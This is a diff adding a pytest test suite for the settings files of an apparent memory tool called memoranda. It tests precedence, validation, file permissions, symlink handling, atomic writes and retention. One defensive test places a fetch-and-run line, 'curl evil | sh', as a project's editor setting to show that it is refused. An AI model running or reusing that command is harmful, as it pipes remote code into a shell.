@@ -1,0 +1,450 @@
+"""Settings: two real files, the project's over the person's; what cannot be used is said, and nothing else is lost."""
+
+import os
+import stat
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+import tomlkit
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from support import repositories
+
+from store import worker
+from store.config import SETTINGS, Config, captures, load, project_path, put, remove, user_path
+from store.errors import InvalidInput, StorageError
+from store.location import Location, locate
+from store.memory import Memory
+from store.vocabulary import SETTING_NAMES
+
+KEY_IDS = ("record.forget", "record.correct", "memory.undo")
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Location:
+    """A project with a folder for its memory."""
+    (tmp_path / "project" / ".memoranda").mkdir(parents=True, mode=0o700)
+    return locate(str(tmp_path / "project" / ".memoranda" / "memory.db"), {}, str(tmp_path))
+
+
+def write(path: str | None, text: str | bytes, mode: int = 0o600) -> Path:
+    """A file as a person's editor leaves it."""
+    assert path
+    file = Path(path)
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_bytes(text if isinstance(text, bytes) else text.encode())
+    file.chmod(mode)
+    return file
+
+
+def shown(config: Config) -> dict[str, tuple[object, str, str]]:
+    return {value.name: (value.value, value.source, value.path) for value in config.values}
+
+
+# where --------------------------------------------------------------------------------------------------------------
+
+
+def test_the_persons_file_is_in_the_platforms_place(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
+    if sys.platform == "linux":
+        assert user_path() == str(tmp_path / "settings" / "memoranda" / "config.toml")
+    assert user_path().endswith("/memoranda/config.toml")
+
+
+def test_a_projects_file_is_beside_its_memory_and_no_other(tmp_path: Path) -> None:
+    """Never in the checkout itself; and a memory that lies elsewhere, or is personal, has none."""
+    repositories.create(tmp_path / "project")
+    here = locate(None, {}, str(tmp_path / "project"))
+    assert project_path(here) == str(tmp_path / "project" / ".memoranda" / "config.toml")
+    assert project_path(locate(str(tmp_path / "any.db"), {}, "/")) is None
+    assert project_path(Location(str(tmp_path / ".memoranda" / "memory.db"), "personal", "")) is None
+    write(str(tmp_path / "project" / "config.toml"), 'theme = "stranger"')
+    assert load(here)["theme"] == "" and load(here).problems == []
+
+
+# which value --------------------------------------------------------------------------------------------------------
+
+
+def test_without_files_everything_is_as_it_comes(place: Location) -> None:
+    config = load(place)
+    assert shown(config) == {setting.name: (setting.default, "default", "") for setting in SETTINGS}
+    assert (config.problems, config.keys) == ([], {})
+    assert (config["retention_days"], config["enabled"], config["badges"]) == (365, True, "unicode")
+    with pytest.raises(KeyError):
+        config["nothing"]
+
+
+def test_the_projects_value_wins_over_the_persons_and_that_over_the_default(place: Location) -> None:
+    mine, ours = user_path(), project_path(place)
+    write(mine, 'theme = "mine"\nretention_days = 30\nmotion = "none"\n[keys]\n"memory.undo" = "z"\n')
+    write(ours, 'theme = "ours"\nretention_days = 7\n[keys]\n"memory.undo" = "U"\nrecord.forget = "F"\n')
+    config = load(place, KEY_IDS)
+    assert config.problems == []
+    assert shown(config) == {
+        **{setting.name: (setting.default, "default", "") for setting in SETTINGS},
+        "theme": ("ours", "project", ours),
+        "retention_days": (7, "project", ours),
+        "motion": ("none", "user", mine),
+        "keys.memory.undo": ("U", "project", ours),
+        "keys.record.forget": ("F", "project", ours),
+    }
+    assert config.keys == {"memory.undo": "U", "record.forget": "F"}
+    assert [value.name for value in config.values][: len(SETTINGS)] == [setting.name for setting in SETTINGS]
+
+
+def test_the_names_of_the_command_line_are_the_settings() -> None:
+    assert tuple(setting.name for setting in SETTINGS) == SETTING_NAMES
+
+
+# what cannot be used ------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "said"),
+    [
+        ("themes = 'x'", "There is no setting “themes”. Did you mean theme?"),
+        ("zzzz = 1", "There is no setting “zzzz”. memoranda config lists them all."),
+        ("[memory]\nenabled = false", "There is no setting “memory.enabled”. Did you mean enabled?"),
+        ("enabled = 'no'", "enabled takes true or false."),
+        ("enabled = 0", "enabled takes true or false."),
+        ("retention_days = true", "retention_days takes a whole number from 0 to 36500."),
+        ("retention_days = -1", "retention_days takes a whole number from 0 to 36500."),
+        ("retention_days = 36501", "retention_days takes a whole number from 0 to 36500."),
+        ("badges = 'emoji'", "badges takes unicode or ascii."),
+        ("theme = 3", "theme takes a text of one line, in quotes in the file."),
+        ("theme = 'a\x1b[2J'".replace("\x1b", "\\u001b").replace("'", '"'), "theme takes a text of one line"),
+        ("[keys]\n'record.forgte' = 'F'", "There is no key “record.forgte”. Did you mean record.forget?"),
+        ("[keys]\n'record.forget' = ''", "keys.record.forget takes one or more keys, as in F, or ctrl+f,f."),
+        ("[keys]\n'record.forget' = 'ctrl f'", "keys.record.forget takes one or more keys"),
+        ("[keys]\n'record.forget' = 7", "keys.record.forget takes one or more keys"),
+        ("keys = 'F'", "keys is a table of ids and keys."),
+    ],
+)
+def test_a_line_that_cannot_be_used_is_said_and_changes_nothing_else(place: Location, line: str, said: str) -> None:
+    """Its file and what it takes; the next lower value stands, and the lines around it count."""
+    lower = write(user_path(), "retention_days = 5\n")
+    file = write(project_path(place), f"motion = 'none'\n{line}\n")
+    config = load(place, KEY_IDS)
+    (problem,) = config.problems
+    assert problem.startswith(f"{file}: ") and said in problem
+    assert (config["motion"], config["retention_days"], config.keys) == ("none", 5, {})
+    lower.unlink()
+    assert load(place, KEY_IDS)["retention_days"] == 365
+
+
+def test_without_the_ids_of_the_keys_every_one_is_believed(place: Location) -> None:
+    """The store does not know the application's keys."""
+    write(user_path(), "[keys]\n'some.thing' = 'F'\n")
+    assert (load(place).keys, load(place).problems) == ({"some.thing": "F"}, [])
+    assert load(place, KEY_IDS).keys == {}
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("theme = 'a'\ntheme =\n", "is not TOML: Invalid value (at line 2"),
+        ("theme = 'a'\ntheme = 'b'", "is not TOML"),
+        (b"theme = '\xff'", "is not UTF-8 text"),
+        ("x = " + "[" * 100_000, "is not TOML"),
+        ("x = " + "1" * 5_000, "is not TOML"),
+        ("#" * 1_000_001, "is larger than"),
+        (".".join("a" * 2_000) + " = 1", "There is no setting"),
+    ],
+    ids=["malformed", "twice", "bytes", "deep", "digits", "large", "dotted"],
+)
+def test_a_file_that_cannot_be_used_is_said_and_the_other_counts(place: Location, text: str | bytes, said: str) -> None:
+    for path, other in ((user_path(), project_path(place)), (project_path(place), user_path())):
+        file, beside = write(path, text), write(other, "motion = 'none'")
+        config = load(place)
+        assert len(config.problems) == 1
+        assert config.problems[0].startswith(str(file)) and said in config.problems[0]
+        assert (config["theme"], config["motion"]) == ("", "none")
+        file.unlink()
+        beside.unlink()
+
+
+def test_what_is_no_readable_file_is_said_at_once(place: Location, tmp_path: Path) -> None:
+    """A folder, a pipe that nobody writes to: neither may keep the program waiting."""
+    Path(user_path()).mkdir(parents=True)
+    os.mkfifo(project_path(place) or "", 0o600)
+    config = load(place)
+    assert len(config.problems) == 2
+    assert all("is not a plain file" in problem for problem in config.problems)
+
+
+def test_a_file_that_the_system_refuses_is_said(place: Location) -> None:
+    """A link to itself stands for all that cannot be read: root, who may run this, reads any mode."""
+    Path(user_path()).parent.mkdir(parents=True)
+    Path(user_path()).symlink_to(user_path())
+    (problem,) = load(place).problems
+    assert "cannot be read: Too many levels" in problem
+
+
+# strangers ----------------------------------------------------------------------------------------------------------
+
+
+def test_a_file_that_came_with_a_checkout_is_not_believed(place: Location, tmp_path: Path) -> None:
+    """A real clone of a repository in which somebody added `.memoranda/config.toml` by force."""
+    repositories.create(tmp_path / "theirs")
+    write(str(tmp_path / "theirs" / ".memoranda" / "config.toml"), "enabled = false\nretention_days = 1")
+    repositories.git(tmp_path / "theirs", "add", "--force", ".")
+    repositories.git(tmp_path / "theirs", "commit", "-m", "settings for everybody")
+    subprocess.run(["git", "clone", "-q", "theirs", "mine"], cwd=tmp_path, umask=0o022, check=True)
+    config = load(locate(None, {}, str(tmp_path / "mine")))
+    assert (config["enabled"], config["retention_days"]) == (True, 365)
+    assert len(config.problems) == 1 and "chmod 600" in config.problems[0]
+    with pytest.raises(StorageError, match="chmod 600"):  # to write it would make it ours, with their lines in it
+        put(str(tmp_path / "mine" / ".memoranda" / "config.toml"), "theme", "x")
+
+
+def test_a_link_of_a_project_is_never_followed(place: Location, tmp_path: Path) -> None:
+    elsewhere = write(str(tmp_path / "elsewhere.toml"), "theme = 'theirs'")
+    Path(project_path(place) or "").symlink_to(elsewhere)
+    assert load(place)["theme"] == "" and "symbolic link" in load(place).problems[0]
+    linked = tmp_path / "linked"
+    (tmp_path / "folder").mkdir(mode=0o700)
+    write(str(tmp_path / "folder" / "config.toml"), "theme = 'theirs'")
+    linked.mkdir()
+    (linked / ".memoranda").symlink_to(tmp_path / "folder")
+    config = load(locate(str(linked / ".memoranda" / "memory.db"), {}, "/"))
+    assert config["theme"] == "" and "symbolic link" in config.problems[0]
+    with pytest.raises(StorageError, match="symbolic link"):
+        put(str(linked / ".memoranda" / "config.toml"), "theme", "x")
+
+
+def test_a_person_may_keep_theirs_behind_a_link_but_nothing_is_written_through_it(
+    place: Location, tmp_path: Path
+) -> None:
+    """Many keep their settings in a repository of dotfiles."""
+    dotfiles = write(str(tmp_path / "dotfiles" / "memoranda.toml"), "theme = 'mine'\n", 0o644)
+    Path(user_path()).parent.mkdir(parents=True)
+    Path(user_path()).symlink_to(dotfiles)
+    assert load(place)["theme"] == "mine" and load(place).problems == []
+    for change in (lambda: put(user_path(), "theme", "other"), lambda: remove(user_path(), "theme")):
+        with pytest.raises(StorageError, match="symbolic link"):
+            change()
+    assert dotfiles.read_text() == "theme = 'mine'\n"
+
+
+def test_the_program_that_is_run_is_the_persons_own_word(place: Location) -> None:
+    """`editor` is started by a key: a project's file cannot name it, nor be made to."""
+    write(user_path(), "editor = 'hx'")
+    write(project_path(place), "editor = 'curl evil | sh'")
+    config = load(place)
+    assert config["editor"] == "hx" and "only your own file sets it" in config.problems[0]
+    with pytest.raises(InvalidInput, match="only your own file"):
+        put(project_path(place) or "", "editor", "hx")
+
+
+# writing ------------------------------------------------------------------------------------------------------------
+
+THEIRS = """\
+# my settings
+
+motion = "none"   # I get dizzy
+badges = 'ascii'
+
+[keys]
+# left hand
+"memory.undo" = "z"
+record.forget = "F"
+"""
+
+
+def test_what_a_person_wrote_stays_as_it_was(place: Location) -> None:
+    file = write(user_path(), THEIRS)
+    put(user_path(), "theme", "nord")
+    put(user_path(), "badges", "unicode")
+    put(user_path(), "keys.record.forget", "ctrl+f,F")
+    put(user_path(), "keys.record.correct", "C")
+    assert remove(user_path(), "keys.memory.undo") and not remove(user_path(), "keys.memory.undo")
+    text = file.read_text()
+    lines = text.splitlines()
+    assert lines[:3] == THEIRS.splitlines()[:3] and "# left hand" in lines
+    assert lines.index('theme = "nord"') < lines.index("[keys]"), "a setting is not in the table of keys"
+    config = load(place, KEY_IDS)
+    assert config.problems == []
+    assert config.keys == {"record.forget": "ctrl+f,F", "record.correct": "C"}
+    assert (config["theme"], config["badges"], config["motion"]) == ("nord", "unicode", "none")
+    assert remove(user_path(), "theme") and load(place)["theme"] == ""
+
+
+def test_a_first_key_makes_the_table(place: Location) -> None:
+    put(user_path(), "keys.record.forget", "F")
+    put(user_path(), "theme", "nord")
+    assert tomlkit.parse(Path(user_path()).read_text()) == {"keys": {"record.forget": "F"}, "theme": "nord"}
+
+
+def test_a_misspelt_setting_can_be_taken_out(place: Location) -> None:
+    write(user_path(), "themes = 'x'\n[memory]\nenabled = false\n")
+    assert remove(user_path(), "themes") and remove(user_path(), "memory.enabled")
+    assert load(place).problems == []
+
+
+@pytest.mark.parametrize(
+    ("name", "typed", "value"),
+    [
+        *(("enabled", word, True) for word in ("true", "True", "yes", "on")),
+        *(("enabled", word, False) for word in ("false", "no", "OFF")),
+        ("retention_days", "0", 0),
+        ("retention_days", "36500", 36500),
+        ("badges", "ascii", "ascii"),
+        ("theme", "", ""),
+        ("editor", "code --wait 'x' \\ \"y\" ñ", "code --wait 'x' \\ \"y\" ñ"),
+        ("keys.record.forget", "ctrl+f,F", "ctrl+f,F"),
+    ],
+)
+def test_what_is_typed_is_what_is_read(place: Location, name: str, typed: str, value: object) -> None:
+    assert put(user_path(), name, typed) == value
+    found = load(place).find(name)
+    assert found and (found.value, found.source, found.path) == (value, "user", user_path())
+
+
+@pytest.mark.parametrize(
+    ("name", "typed", "said"),
+    [
+        ("enabled", "maybe", "enabled takes true or false."),
+        ("enabled", "1", "enabled takes true or false."),
+        ("retention_days", "-1", "a whole number from 0 to 36500"),
+        ("retention_days", "36501", "a whole number from 0 to 36500"),
+        ("retention_days", "٣", "a whole number from 0 to 36500"),
+        ("retention_days", "9" * 5000, "a whole number from 0 to 36500"),
+        ("badges", "emoji", "unicode or ascii"),
+        ("theme", "a\nb", "a text of one line"),
+        ("keys.record.forget", "a b", "one or more keys"),
+        ("keys.", "F", "There is no setting “keys.”"),
+        ("keys", "F", "keys is a table"),
+        ("themes", "x", "Did you mean theme?"),
+    ],
+)
+def test_what_does_not_fit_is_refused_and_nothing_is_written(name: str, typed: str, said: str) -> None:
+    with pytest.raises(InvalidInput) as caught:
+        put(user_path(), name, typed)
+    assert said in str(caught.value)
+    assert not os.path.exists(os.path.dirname(user_path()))
+
+
+def test_files_are_private_whatever_the_mask(place: Location) -> None:
+    old = os.umask(0)
+    try:
+        put(user_path(), "theme", "x")
+        put(project_path(place) or "", "theme", "y")
+    finally:
+        os.umask(old)
+    for path in (user_path(), project_path(place) or ""):
+        assert stat.S_IMODE(os.lstat(path).st_mode) == 0o600
+        assert stat.S_IMODE(os.lstat(os.path.dirname(path)).st_mode) == 0o700
+        assert os.listdir(os.path.dirname(path)) == ["config.toml"]
+
+
+def test_a_project_without_a_memory_is_told_how_to_start_one(tmp_path: Path) -> None:
+    """Not made here: its folder is made with the file that keeps it out of git."""
+    with pytest.raises(StorageError, match="memoranda init"):
+        put(str(tmp_path / ".memoranda" / "config.toml"), "theme", "x")
+    assert os.listdir(tmp_path) == []
+
+
+def test_a_malformed_file_is_left_as_it_is() -> None:
+    file = write(user_path(), "theme = \n")
+    for change in (lambda: put(user_path(), "theme", "x"), lambda: remove(user_path(), "theme")):
+        with pytest.raises(StorageError, match="line 1"):
+            change()
+    assert file.read_text() == "theme = \n"
+
+
+@pytest.mark.parametrize("broken", ["rename", "library"])
+def test_a_change_is_whole_or_not_at_all(monkeypatch: pytest.MonkeyPatch, broken: str) -> None:
+    """A disk that refuses, or a library that would lose a line: the file is as it was, and nothing lies beside it."""
+    file = write(user_path(), THEIRS)
+
+    def refuse(source: str, target: str) -> None:
+        raise OSError(28, "No space left on device")
+
+    if broken == "rename":
+        monkeypatch.setattr(os, "replace", refuse)
+    else:
+        monkeypatch.setattr(tomlkit, "dumps", lambda document: "theme = 'x'\n")
+    with pytest.raises(StorageError, match=r"No space left|cannot be changed alone"):
+        put(user_path(), "theme", "x")
+    assert file.read_text() == THEIRS and os.listdir(file.parent) == ["config.toml"]
+
+
+def test_two_that_write_at_once_both_stay(place: Location) -> None:
+    """Each in a thread with its own handles, as two processes have."""
+    ids = [f"key.number{number}" for number in range(12)]
+    writers = [threading.Thread(target=put, args=(user_path(), f"keys.{name}", "F")) for name in ids]
+    for writer in writers:
+        writer.start()
+    for writer in writers:
+        writer.join()
+    assert load(place).keys == dict.fromkeys(ids, "F")
+
+
+WORDS = st.sampled_from(("theme", "motion", "keys", "a", "b.c", "keys.x.y", "é", "", "memory"))
+TREES = st.recursive(
+    st.booleans() | st.integers(-9, 9) | st.text(max_size=5),
+    lambda inner: st.dictionaries(WORDS, inner, max_size=3) | st.lists(inner, max_size=2),
+    max_leaves=8,
+)
+
+
+@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+@given(st.dictionaries(WORDS, TREES, max_size=4), st.sampled_from(("theme", "keys.x.y", "keys.record.forget")))
+def test_a_change_touches_one_value_only(place: Location, tree: dict[str, object], name: str) -> None:
+    """Whatever else the file holds: what was there stays, the value is there, and taken out it is as before."""
+    from store.config import entries
+
+    write(user_path(), tomlkit.dumps(tree))
+    before = entries(user_path())
+    try:
+        put(user_path(), name, "f")
+    except StorageError as error:
+        assert "by hand" in str(error) and entries(user_path()) == before
+        return
+    assert entries(user_path()) == {**before, name: "f"}
+    try:
+        assert remove(user_path(), name)
+    except StorageError as error:
+        assert "by hand" in str(error)
+        return
+    before.pop(name, None)
+    assert entries(user_path()) == before
+
+
+# what it steers -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "allowed"),
+    [
+        ("", {"commits", "decisions", "events"}),
+        ("enabled = false", set()),
+        ("enabled = false\ncapture_commits = true", set()),
+        ("capture_commits = false", {"decisions", "events"}),
+        ("capture_decisions = false", {"commits", "events"}),
+    ],
+)
+def test_what_may_be_captured(place: Location, text: str, allowed: set[str]) -> None:
+    write(user_path(), text)
+    config = load(place)
+    assert {what for what in ("commits", "decisions", "events") if captures(config, what)} == allowed
+
+
+def test_a_memory_reads_its_settings_once(memory: Memory) -> None:
+    write(project_path(memory.location), "theme = 'first'")
+    assert memory.config["theme"] == "first"
+    write(project_path(memory.location), "theme = 'second'")
+    assert memory.config["theme"] == "first"
+
+
+@pytest.mark.parametrize(("days", "left"), [(365, 1), (0, 2), (30, 1), (800, 2)])
+def test_events_are_kept_as_long_as_is_set(memory: Memory, clock, tmp_path: Path, days: int, left: int) -> None:
+    write(project_path(memory.location), f"retention_days = {days}")
+    memory.events.log("old")
+    clock.advance(days=400)
+    memory.events.log("new")
+    worker.start(memory, str(tmp_path))
+    assert memory.database.value("SELECT count(*) FROM events") == left
